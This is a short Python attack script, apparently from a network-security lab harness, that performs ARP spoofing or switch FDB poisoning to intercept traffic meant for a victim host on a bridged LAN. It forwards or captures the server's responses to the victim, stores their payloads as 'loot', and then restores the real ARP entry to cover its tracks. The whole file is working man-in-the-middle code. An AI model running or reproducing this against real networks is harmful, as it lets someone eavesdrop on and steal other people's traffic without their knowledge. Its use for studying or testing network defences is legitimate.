"""A neighbour on the bridge reads the answers that the victim asks for, and sends none of its own requests.

--how arp: the host is told that the victim is here; what comes is passed on to the victim, which notices nothing.
--how fdb: frames with the victim's MAC, as fast as they go, so that the bridge sends here what it has for the victim.
"""

import time

from frames import MADE_UP, Loot, Wire, arguments, mac

told = arguments(
    __doc__,
    (["--how"], dict(choices=["arp", "fdb"], default="arp")),
    (["--seconds"], dict(type=float, default=3.0)),
)
wire = Wire()
victim_mac = mac(told.victim_mac)
loot = Loot(told.role)
end = time.monotonic() + told.seconds
streams = {}


def poison():
    loot.tries += 1
    if told.how == "arp":
        wire.claim(told.victim, MADE_UP, wire.gateway_mac)
    else:
        wire.arp(2, victim_mac, told.victim, victim_mac, told.victim, to=wire.gateway_mac)


poison()
print("ready", flush=True)
poisoned = time.monotonic()
while time.monotonic() < end:
    for segment in wire.segments(0.0005 if told.how == "fdb" else 0.05):
        if segment and segment.target == told.victim and (segment.source, segment.source_port) == (told.server, told.server_port):
            if told.how == "arp":
                wire.forward(segment, MADE_UP, victim_mac)
            if segment.data:
                streams.setdefault((segment.target_port, segment.seq), segment.data)
            if time.monotonic() > end:
                break
    if told.how == "fdb" or time.monotonic() - poisoned > 0.2:
        poison()
        poisoned = time.monotonic()

for data in streams.values():
    loot.answer(data)
loot.connections = len({port for port, _ in streams})
wire.tell_the_truth(told.victim, victim_mac)
loot.print()
